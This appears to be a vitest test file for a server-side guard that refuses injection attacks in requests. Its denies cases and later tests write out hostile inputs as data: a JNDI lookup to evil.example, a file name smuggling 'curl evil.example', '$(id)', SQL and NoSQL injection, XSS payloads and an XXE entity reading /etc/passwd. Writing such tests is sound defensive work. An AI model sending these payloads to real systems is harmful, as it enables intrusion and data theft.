import { describe, expect, test } from "vitest";
import { fakeEnv, fakeExchange, type FakeExchangeInit } from "../../test/support/exchange.ts";
import { testGuard } from "../../test/support/test-guard.ts";
import { injectionContent } from "./injection-content.ts";

const json = { "content-type": "application/json" };
const because = "this field holds a password";
const parsed = (parsedBody: unknown): FakeExchangeInit => ({ method: "POST", headers: json, body: "{}", parsedBody });
const typed = (type: string, body: string): FakeExchangeInit => ({
  method: "POST",
  headers: { "content-type": type },
  body,
});
const multipart = (disposition: string, content = "x") =>
  typed(
    "multipart/form-data; boundary=b",
    `--b\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${content}\r\n--b--\r\n`,
  );
const chrome = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36";

testGuard(injectionContent, {
  passes: [
    { name: "no body", options: true },
    {
      name: "ordinary headers",
      options: true,
      exchange: { headers: { "user-agent": chrome, cookie: "a=b; c=%7B%22d%22%3A1%7D" } },
    },
    {
      name: "ordinary data",
      options: true,
      exchange: parsed({ name: "O'Brien", n: 1, ok: true, none: null, list: ["a & b"] }),
    },
    {
      name: "HTML in rich text",
      options: { richText: ["blocks[].html"] },
      exchange: parsed({ blocks: [{ html: "<p>It's <b>ok</b></p>" }] }),
    },
    {
      name: "code in free text",
      options: { freeText: ["text"] },
      exchange: parsed({ text: "Use `<script>alert(1)</script>` here" }),
    },
    { name: "an exempt field", options: { exempt: { password: because } }, exchange: parsed({ password: "x'-- " }) },
    { name: "a picture that nothing has parsed", options: true, exchange: typed("image/png", "' OR 1=1 --") },
    { name: "JSON that nothing has parsed", options: true, exchange: typed("application/json", '{"name":"O\'Brien"}') },
    { name: "an empty body of a judged type", options: true, exchange: typed("application/json", "") },
    {
      name: "a file with an ordinary name",
      options: true,
      exchange: multipart('name="f"; filename="Report (final) v2.pdf"'),
    },
  ],
  denies: [
    {
      name: "a look-up in the user agent",
      options: true,
      exchange: { headers: { "user-agent": "${jndi:ldap://evil.example/a}" } },
      problem: "input-refused",
    },
    {
      name: "SQL in one of several cookies",
      options: true,
      exchange: { headers: { cookie: "a=b; id=1' OR '1'='1; c=d" } },
      problem: "input-refused",
    },
    {
      name: "SQL in a member",
      options: true,
      exchange: parsed({ a: [{ b: "x" }, { b: "' OR 1=1 --" }] }),
      problem: "input-refused",
    },
    {
      name: "an operator as a name",
      options: true,
      exchange: parsed({ user: { $ne: null } }),
      problem: "input-refused",
    },
    {
      name: "a text for a name",
      options: true,
      exchange: parsed({ "<script>alert(1)</script>": 1 }),
      problem: "input-refused",
    },
    {
      name: "script in rich text",
      options: { richText: ["html"] },
      exchange: parsed({ html: "<p onclick=alert(1)>x</p>" }),
      problem: "input-refused",
    },
    {
      name: "an attack in JSON that nothing has parsed",
      options: true,
      exchange: typed("application/json", '{"a":"\\u0027 OR 1=1 --"}'),
      problem: "input-refused",
    },
    {
      name: "an attack in a form that nothing has parsed",
      options: true,
      exchange: typed("application/x-www-form-urlencoded", "a=b&a=%27+OR+1%3D1+--"),
      problem: "input-refused",
    },
    {
      name: "JSON that calls itself plain text",
      options: true,
      exchange: typed("text/plain", '{"a":{"$ne":null}}'),
      problem: "input-refused",
    },
    {
      name: "JSON that calls itself nothing",
      options: true,
      exchange: { method: "POST", body: '{"a":{"$ne":null}}' },
      problem: "input-refused",
    },
    {
      name: "an external entity",
      options: true,
      exchange: typed("application/xml", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
      problem: "input-refused",
    },
    {
      name: "JSON that nobody can parse",
      options: true,
      exchange: typed("application/json", '{"a":1,"a":2}'),
      problem: "malformed-body",
    },
    {
      name: "a command as the name of a file",
      options: true,
      exchange: multipart('name="f"; filename="a.jpg;curl evil.example"'),
      problem: "input-refused",
    },
    {
      name: "an attack in a field beside files",
      options: true,
      exchange: multipart('name="a"', "<svg onload=alert(1)>"),
      problem: "input-refused",
    },
  ],
});

const judge = async (exchange: ReturnType<typeof fakeExchange>, options: unknown = true) =>
  injectionContent.create(injectionContent.options.parse(options), fakeEnv()).request?.(exchange);

describe("what the log and the client are told", () => {
  test("the place by JSON pointer, the class to the log only", async () => {
    expect(await judge(fakeExchange(parsed({ items: [{ note: "' OR 1=1 --" }] })))).toEqual({
      kind: "deny",
      problem: "input-refused",
      reason: 'sql in the body at "/items/0/note" (score 8)',
      fields: [{ pointer: "/items/0/note", reason: "not-allowed-value" }],
    });
  });

  test("a refused name is not repeated", async () => {
    expect(await judge(fakeExchange(parsed({ user: { $ne: 1 } })))).toMatchObject({
      reason: 'nosql in the body at "/user", in the name of a member (score 6)',
      fields: [{ pointer: "/user" }],
    });
  });

  test("a header by its name", async () => {
    const verdict = await judge(
      fakeExchange({ headers: { referer: "https://a.example/?q=<script>alert(1)</script>" } }),
    );
    expect(verdict).toMatchObject({ reason: 'xss in the header "referer" (score 6)' });
    expect(verdict).not.toHaveProperty("fields");
  });
});

test("a file name in a body that a schema has judged is judged, too", async () => {
  const exchange = fakeExchange({ ...multipart('name="f"; filename="$(id).png"'), parsedBody: {} });
  exchange.upstreamRequest.body = new TextEncoder().encode(
    '--b\r\nContent-Disposition: form-data; name="f"; filename="$(id).png"\r\n\r\nx\r\n--b--\r\n',
  );
  expect(await judge(exchange)).toMatchObject({ reason: "command in the name of a file (score 5)" });
});

test("what was read is what is sent", async () => {
  const exchange = fakeExchange({
    ...typed("application/json", '{"a":"b"}'),
    headers: { ...json, "content-encoding": "gzip" },
  });
  await judge(exchange);
  expect(new TextDecoder().decode(exchange.upstreamRequest.body)).toBe('{"a":"b"}');
  expect(exchange.upstreamRequest.headers.get("content-length")).toBe("9");
  expect(exchange.upstreamRequest.headers.get("content-encoding")).toBeUndefined();
});

test("a value that is remembered as harmless in one header is still judged in another request's", async () => {
  const hooks = injectionContent.create(injectionContent.options.parse(true), fakeEnv());
  for (let n = 0; n < 300; n++) await hooks.request?.(fakeExchange({ headers: { "user-agent": `client/${n}` } }));
  expect(await hooks.request?.(fakeExchange({ headers: { "user-agent": "client/1" } }))).toEqual({ kind: "pass" });
  expect(await hooks.request?.(fakeExchange({ headers: { "user-agent": "' OR 1=1 --" } }))).toMatchObject({
    kind: "deny",
  });
});
